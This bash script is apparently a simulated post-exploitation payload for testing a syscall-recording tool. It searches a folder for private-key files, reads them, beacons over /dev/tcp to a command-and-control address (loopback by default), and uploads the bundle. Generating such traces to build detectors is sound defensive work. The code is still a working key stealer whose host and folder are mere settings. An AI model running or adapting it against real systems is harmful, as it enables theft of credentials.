#!/bin/bash
# sysray attack-scenario payload: what the "command-and-control" server hands the hijacked web server's
# shell. It is harmless by construction — it only looks inside LOOT_DIR (a temporary folder the runner
# fills with fake keys), talks only to C2_HOST:C2_PORT (loopback), and deletes its own work files — but it
# behaves like real post-exploitation tooling, so that a recording of it shows the telltale syscalls:
#   1. search LOOT_DIR for key-like files (find), 2. read them (cat),
#   3. beacon to the C2 every INTERVAL seconds, BEACONS times, 4. one large upload (the loot + filler).
# HTTP is spoken over bash's /dev/tcp, as attackers do on hosts without curl or wget.
set -u
C2_HOST=${C2_HOST:-127.0.0.1}
C2_PORT=${C2_PORT:?C2_PORT is required}
LOOT_DIR=${LOOT_DIR:?LOOT_DIR is required}
BEACONS=${BEACONS:-5}
INTERVAL=${INTERVAL:-1}
UPLOAD_BYTES=${UPLOAD_BYTES:-1048576}
ID="$(uname -n)-$$"
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# post PATH FILE: POST the file's bytes to the C2; succeeds on HTTP 200.
post() {
  local len status
  len=$(wc -c < "$2")
  exec 3<>"/dev/tcp/$C2_HOST/$C2_PORT" || return 1
  printf 'POST %s HTTP/1.0\r\nHost: %s:%s\r\nContent-Type: application/octet-stream\r\nContent-Length: %d\r\n\r\n' \
    "$1" "$C2_HOST" "$C2_PORT" "$len" >&3
  cat "$2" >&3
  IFS= read -r status <&3
  exec 3<&-
  case $status in
    *" 200 "*) return 0 ;;
    *) return 1 ;;
  esac
}

# 1. key-like files
find "$LOOT_DIR" -type f \( -name '*.pem' -o -name '*.key' -o -name 'id_rsa*' -o -name 'id_ed25519*' \) \
  | sort > "$work/found"

# 2. read them into one bundle: "### PATH SIZE" then the bytes, per file
: > "$work/loot"
while IFS= read -r f; do
  printf '### %s %d\n' "$f" "$(wc -c < "$f")" >> "$work/loot"
  cat "$f" >> "$work/loot"
done < "$work/found"

# 3. beacon periodically
i=1
while [ "$i" -le "$BEACONS" ]; do
  printf 'id=%s&seq=%d&found=%d' "$ID" "$i" "$(wc -l < "$work/found")" > "$work/beacon"
  post /beacon "$work/beacon" || true
  sleep "$INTERVAL"
  i=$((i + 1))
done

# 4. one large upload: the bundle plus filler (as if archived and padded)
printf '### filler %d\n' "$UPLOAD_BYTES" >> "$work/loot"
head -c "$UPLOAD_BYTES" /dev/urandom >> "$work/loot"
post /upload "$work/loot"
